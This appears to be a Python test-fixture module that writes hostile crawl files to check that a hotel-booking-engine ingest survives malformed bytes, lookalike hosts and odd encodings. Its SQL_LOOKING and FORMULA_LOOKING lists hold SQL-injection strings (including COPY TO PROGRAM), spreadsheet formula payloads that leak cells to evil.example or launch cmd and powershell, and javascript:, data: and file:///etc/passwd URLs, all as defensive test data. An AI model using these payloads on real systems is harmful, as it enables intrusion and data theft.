"""A corpus of hostile crawl files (tests.support.measure runs a stage on them and measures it).

`CASES` holds one `HostileCase` per kind of bad input the ingest must survive: random bytes,
NUL bytes, invalid UTF-8, byte-order marks, odd line ends, a 10 MB line, empty and blank
files, millions of duplicates, SQL- and formula-looking text, internationalised, punycode and
lookalike hosts, percent-encoded paths, `javascript:` and `data:` URLs. Each case names the
engine it is fed to, the exact property ids it must yield and the reject reasons it must
produce (None where random input makes them unpredictable). Big files are written in pieces,
so building them costs the test process no memory.

`PERMISSIVE_ENGINE` accepts any text as an id, so SQL- and formula-looking lines reach the
database and the workbook instead of being rejected at the parser.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

BOM = b"\xef\xbb\xbf"
CLOUDBEDS = "https://hotels.cloudbeds.com/reservation/"
PERMISSIVE = "permissive"
PERMISSIVE_ENGINE = {
    "file": "permissive.txt",
    "display_name": "Permissive",
    "hosts": ["example.test"],
    "url_patterns": ["^[^/]+/p/(?P<id>.+)$"],
    "id_pattern": ".+",
    "id_case": "preserve",
    "booking_url": "https://example.test/p/{id}",
}
DUPLICATE_LINES = 2_000_000
TEN_MEGABYTES = 10 * 1024 * 1024


@dataclass(frozen=True)
class HostileCase:
    """One hostile crawl file: how to write it and what the ingest must make of it."""

    kind: str
    engine: str
    write: Callable[[Path], None]
    accepted: frozenset[str] | None  # the exact ids stored; None: random input
    reasons: frozenset[str] | None  # the exact reject reasons seen; None: random input


def _lines(lines: Iterable[str | bytes], end: bytes = b"\n") -> Callable[[Path], None]:
    def write(path: Path) -> None:
        with path.open("wb") as out:
            for line in lines:
                out.write((line.encode("utf-8") if isinstance(line, str) else line) + end)

    return write


def _raw(data: bytes) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        path.write_bytes(data)

    return write


def _random_bytes(size: int, seed: int) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        rng = random.Random(seed)
        with path.open("wb") as out:
            for _ in range(size // 65536):
                out.write(rng.randbytes(65536))

    return write


def _long_line(path: Path) -> None:
    with path.open("wb") as out:
        out.write(CLOUDBEDS.encode())
        for _ in range(TEN_MEGABYTES // 65536):
            out.write(b"x" * 65536)
        out.write(b"\n" + f"{CLOUDBEDS}after1\n".encode())


def duplicates(lines: int) -> Callable[[Path], None]:
    """`lines` lines naming one property, as a URL and as a bare id by turns."""

    def write(path: Path) -> None:
        pair = f"{CLOUDBEDS}dup001\ndup001\n".encode()
        with path.open("wb") as out:
            for _ in range(lines // 20_000):
                out.write(pair * 10_000)

    return write


def _encoded(values: Iterable[str]) -> list[str]:
    """`values` as permissive-engine URLs, percent-encoded so any text survives the parser."""
    return [f"https://example.test/p/{quote(value, safe='')}" for value in values]


SQL_LOOKING = (
    "'; DROP TABLE hotel_booking_engines; --",
    "Robert'); DELETE FROM hotels WHERE ('1'='1",
    "1 OR 1=1",
    "$$ LANGUAGE plpgsql; SELECT pg_sleep(30); $$",
    "x'; COPY hotels TO PROGRAM 'touch /tmp/pwned'; --",
    "%s",
    "%(engine_id)s",
    "{id}",
    "$1",
    "\\.",  # COPY's end-of-data marker
    "\\N",  # COPY's NULL
    "back\\slash\\\\",
    "E'\\x41'",
    '"quoted" `ticks` /* comment */ --',
)
FORMULA_LOOKING = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "=cmd|'/C powershell -c evil'!A0",
    "#N/A",
    "=",
    "'=quoted",
    "\uff1d1+1",  # a fullwidth equals sign
    " =1+1",
)

CASES: dict[str, HostileCase] = {
    case.kind: case
    for case in (
        HostileCase("binary_garbage", "cloudbeds", _random_bytes(2 << 20, seed=6), None, None),
        HostileCase(
            "nul_bytes",
            "cloudbeds",
            _lines(
                [
                    f"{CLOUDBEDS}ab\x00c1",
                    b"\x00",
                    b"abc12\x00",
                    b"\x00" * 100,
                    f"{CLOUDBEDS}good01",
                ]
            ),
            frozenset({"good01"}),
            # `abc12` and its NUL padding: no 6-character code.
            frozenset({"control_chars", "malformed_id"}),
        ),
        HostileCase(
            "invalid_utf8",
            "cloudbeds",
            _lines(
                [
                    # Read as Windows-1252 (`ÿþ` glued before the URL): the id it names.
                    b"\xff\xfe" + CLOUDBEDS.encode() + b"win001",
                    CLOUDBEDS.encode() + b"ab\xc3(",
                    b"\xc0\xaf",  # an overlong '/'
                    b"\xed\xa0\x80abc",  # an encoded surrogate
                    f"{CLOUDBEDS}good02",
                ]
            ),
            frozenset({"good02", "win001"}),
            frozenset({"invalid_utf8"}),
        ),
        HostileCase(
            "byte_order_marks",
            "cloudbeds",
            _raw(BOM + f"{CLOUDBEDS}bom001\n".encode() + BOM + b"bom002\nbom003\n"),
            frozenset({"bom001", "bom002", "bom003"}),
            frozenset(),
        ),
        HostileCase(
            "crlf_line_ends",
            "cloudbeds",
            _raw(f"crlf01\r\n{CLOUDBEDS}crlf02\r\n\r\ncrlf03".encode()),
            frozenset({"crlf01", "crlf02", "crlf03"}),
            frozenset(),
        ),
        HostileCase(
            "lone_cr_line_ends",
            "cloudbeds",
            _raw(f"cr0001\rcr0002\r\r{CLOUDBEDS}cr0003\r".encode()),
            frozenset({"cr0001", "cr0002", "cr0003"}),
            frozenset(),
        ),
        HostileCase(
            "ten_megabyte_line",
            "cloudbeds",
            _long_line,
            frozenset({"after1"}),
            frozenset({"too_long"}),
        ),
        HostileCase("empty_file", "cloudbeds", _raw(b""), frozenset(), frozenset()),
        HostileCase(
            "only_blank_lines",
            "cloudbeds",
            _raw(
                b"\n" * 1000
                + b" \t \n" * 100
                + "\u00a0\u3000\n".encode() * 10
                + b"\r\n" * 10
                + BOM
                + b"\n"
            ),
            frozenset(),
            frozenset(),
        ),
        HostileCase(
            "every_line_invalid",
            "cloudbeds",
            _lines(
                [
                    "not a url at all",
                    "https://www.booking.com/hotel/au/harbour.html",
                    f"{CLOUDBEDS}waytoolongid12345",
                    "https://hotels.cloudbeds.com/about",
                    "x",
                ]
                * 2000
            ),
            frozenset(),
            frozenset({"malformed_id", "no_id", "wrong_host", "text_word"}),
        ),
        HostileCase(
            "millions_of_duplicates",
            "cloudbeds",
            duplicates(DUPLICATE_LINES),
            frozenset({"dup001"}),
            frozenset(),
        ),
        HostileCase(
            "sql_looking_lines",
            PERMISSIVE,
            _lines(_encoded(SQL_LOOKING)),
            frozenset(SQL_LOOKING),
            frozenset(),
        ),
        HostileCase(
            "formula_looking_lines",
            PERMISSIVE,
            _lines(_encoded(FORMULA_LOOKING)),
            # `=` alone is punctuation, a placeholder (crawl_outcome.is_placeholder): no lead.
            frozenset(FORMULA_LOOKING) - {"="},
            frozenset({"placeholder_id"}),
        ),
        HostileCase(
            "internationalised_and_punycode_hosts",
            "cloudbeds",
            _lines(
                [
                    "hotels.cl\u043eudbeds.com/reservation/idn001",  # a Cyrillic o
                    "https://hotels.cloudbeds.c\u043em/reservation/idn002",
                    "https://xn--cloudbeds-7kc.com/reservation/idn003",
                    "\uff43\uff4c\uff4f\uff55\uff44\uff42\uff45\uff44\uff53.com/reservation/idn004",
                    "h\u00f4tels.cloudbeds.com/reservation/idn005",
                    "https://xn--htels-bsa.cloudbeds.com/reservation/idn006",  # a real subdomain
                    f"{CLOUDBEDS}idn007",
                    f"{CLOUDBEDS}\u00eddn008",
                ]
            ),
            frozenset({"idn006", "idn007"}),
            frozenset({"wrong_host", "malformed_id"}),
        ),
        HostileCase(
            "case_folding_lookalike_host",
            "siteminder",
            _lines(
                [
                    "https://theboo\u212aingbutton.com/properties/kelvin1",  # a Kelvin sign
                    "https://D\u0130RECT-BOOK.com/properties/dotted1",  # a dotted capital I
                    "https://thebookingbutton.com/properties/plain01",
                ]
            ),
            frozenset({"plain01"}),
            frozenset({"wrong_host"}),
        ),
        HostileCase(
            "lookalike_hosts",
            "cloudbeds",
            _lines(
                [
                    "https://cloudbeds.com.example/reservation/look01",
                    "https://hotels.cloudbeds.com.evil.com/reservation/look02",
                    "https://evilcloudbeds.com/reservation/look03",
                    "https://cloudbeds.co/reservation/look04",
                    "https://cloudbeds.com@evil.com/reservation/look05",
                    "https://hotels.cloudbeds.com:443@evil.com/reservation/look06",
                    "https://evil.com/hotels.cloudbeds.com/reservation/look07",
                    "https://evil.com#hotels.cloudbeds.com/reservation/look09",
                    "cloudbeds-com.evil.com/reservation/look10",
                    "https://cloudbeds.com%2Eevil.com/reservation/look11",
                    "https://cloudbeds%2Ecom/reservation/look12",
                    "https://evil.com\\@hotels.cloudbeds.com/reservation/look13",
                    f"{CLOUDBEDS}look00",
                    # A parameter holding the engine's own URL names that URL's property, as a
                    # second URL on the line would: never a lead of the outer host.
                    "https://evil.com/?u=https://hotels.cloudbeds.com/reservation/look08",
                ]
            ),
            frozenset({"look00", "look08"}),
            frozenset({"wrong_host"}),
        ),
        HostileCase(
            "percent_encoded_paths",
            "cloudbeds",
            _lines(
                [
                    f"{CLOUDBEDS}%70ct001",
                    "hotels.cloudbeds.com/%72eservation/pct002",
                    f"{CLOUDBEDS}pct%2F003",
                    f"{CLOUDBEDS}pct%00x",
                    f"{CLOUDBEDS}pct%ffx",
                    f"{CLOUDBEDS}%2570ct004",
                    f"{CLOUDBEDS}pct%0A005",
                ]
            ),
            frozenset({"pct001", "pct002"}),
            # pct%2F003 reads as sub-page /003 of "pct", which is too short: malformed_id.
            frozenset({"control_chars", "invalid_utf8", "malformed_id"}),
        ),
        HostileCase(
            "javascript_and_data_urls",
            "cloudbeds",
            _lines(
                [
                    "javascript:alert(document.cookie)",
                    "JaVaScRiPt:alert(1)//hotels.cloudbeds.com/reservation/js0001",
                    "javascript://hotels.cloudbeds.com/reservation/js0002%0Aalert(1)",
                    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                    "data:,hotels.cloudbeds.com/reservation/js0003",
                    "vbscript:msgbox(1)",
                    "file:///etc/passwd",
                    "  javascript:alert(1)",
                    "java\tscript:alert(1)",  # a tab separates fields: "java", "script:..." (text)
                ]
            ),
            frozenset(),
            frozenset({"unsupported_scheme", "text_word"}),
        ),
    )
}


def physical_lines(path: Path) -> int:
    """Lines in `path` as a reader independent of stages.rules.crawl counts them: \\n, \\r\\n and a
    lone \\r end a line, a last line needs no end, a leading UTF-8 BOM is not content."""
    count = 0
    after_cr = False  # the previous chunk ended with \r: a leading \n belongs to it
    last = b""
    first = True
    with path.open("rb") as handle:
        while chunk := handle.read(1 << 20):
            if first and chunk.startswith(BOM):
                chunk = chunk[len(BOM) :]
            first = False
            if not chunk:
                continue
            count += chunk.count(b"\n") + chunk.count(b"\r") - chunk.count(b"\r\n")
            if after_cr and chunk.startswith(b"\n"):
                count -= 1
            after_cr = chunk.endswith(b"\r")
            last = chunk[-1:]
    return count + (1 if last and last not in (b"\n", b"\r") else 0)
